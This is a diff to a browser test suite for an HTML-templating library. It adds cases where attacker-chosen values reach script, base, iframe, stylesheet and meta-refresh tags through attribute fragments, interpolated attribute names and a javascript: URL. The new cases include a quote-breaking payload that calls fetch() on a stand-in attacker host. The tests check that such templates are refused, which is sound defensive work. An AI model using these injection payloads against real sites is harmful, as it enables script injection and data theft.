@@ -5,6 +5,8 @@
  * page, `<base href>` moved the page's own relative script there, a frame and a stylesheet loaded from
  * there, and `<a href="/${'/host:port/x'}">` led to the attacker's host; now each template is refused
  * (TypeError) or the link stays a path on the app's origin, and the attacker's server gets no request.
+ * The same through an attribute fragment (`<script ${html` src="${value}"`}>`), an interpolated name in
+ * a `<meta>`, and a `javascript:` URL the template writes (its link, clicked, fetched from there).
  */
 import { createServer, type Server } from 'node:http';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
@@ -21,6 +23,17 @@ const PAGES: Record<string, (evil: string) => SafeHtml> = {
   '/stylesheet': (evil) => html`<link rel="stylesheet" href="${`${evil}/x.css`}">`,
   '/cdn-host': (evil) => html`<script src="http://${evil.slice('http://'.length)}/x.js"></script>`,
   '/refresh': (evil) => html`<meta http-equiv="refresh" content="0;url=${`${evil}/refreshed`}">`,
+  // A fragment put where an attribute name goes was read without its tag: its src was an ordinary URL.
+  '/fragment-script': (evil) => html`<script ${html` src="${`${evil}/x.js`}"`}></script>`,
+  '/fragment-base': (evil) => html`<base ${html` href="${`${evil}/`}"`}><script src="app.js"></script>`,
+  '/fragment-iframe': (evil) => html`<iframe ${html` src="${`${evil}/frame`}"`}></iframe>`,
+  '/fragment-stylesheet': (evil) => html`<link rel="stylesheet" ${html` href="${`${evil}/x.css`}"`}>`,
+  '/fragment-refresh': (evil) => html`<meta http-equiv="refresh" ${html` content="${`0;url=${evil}/refreshed`}"`}>`,
+  // An interpolated attribute name in a <meta>: the refresh was not known.
+  '/name-refresh': (evil) => html`<meta http-equiv="refresh" ${'content'}="${`0;url=${evil}/refreshed`}">`,
+  '/name-http-equiv': (evil) => html`<meta ${'http-equiv'}="refresh" content="0;url=${`${evil}/refreshed`}">`,
+  // A javascript: URL in the template's text: the browser decodes the value's &#39; back before running it.
+  '/javascript-url': (evil) => html`<a id="js" href="javascript:void('${`');fetch('${evil}/ran');//`}')">a</a>`,
   // The author's own script, as the template writes it, and as a trustedUrl: loaded from the app.
   '/own': () => html`<script src="/static/${'app.js'}"></script><script src="${trustedUrl('/app.js')}"></script>`,
   '/link': (evil) => html`<a id="slash" href="/${`/${evil.slice('http://'.length)}/x`}">a</a><a id="backslash" href="/${`\\${evil.slice('http://'.length)}/x`}">b</a><a id="tab" href="/${`\t/${evil.slice('http://'.length)}/x`}">c</a>`,
@@ -75,9 +88,14 @@ describe.runIf(browserTestsEnabled('resource URLs in Chromium'))('resource URLs 
     await context.close();
   });
 
-  it.each(['/script', '/base', '/iframe', '/stylesheet', '/cdn-host', '/refresh'])('%s: the template is refused; the other origin gets no request', async (path) => {
+  it.each([
+    '/script', '/base', '/iframe', '/stylesheet', '/cdn-host', '/refresh',
+    '/fragment-script', '/fragment-base', '/fragment-iframe', '/fragment-stylesheet', '/fragment-refresh', '/name-refresh', '/name-http-equiv', '/javascript-url',
+  ])('%s: the template is refused; the other origin gets no request', async (path) => {
     // goto waits for the load event: after the scripts, the frame and the stylesheet.
     await page.goto(`${app.origin}${path}`);
+    // The javascript: link, where it renders, is followed (it runs a fetch to the other origin).
+    if ((await page.locator('#js').count()) > 0) await page.click('#js');
     expect(evil.requests).toEqual([]);
     expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
     expect(await page.locator('#refused').allTextContents()).toEqual(['TypeError']);
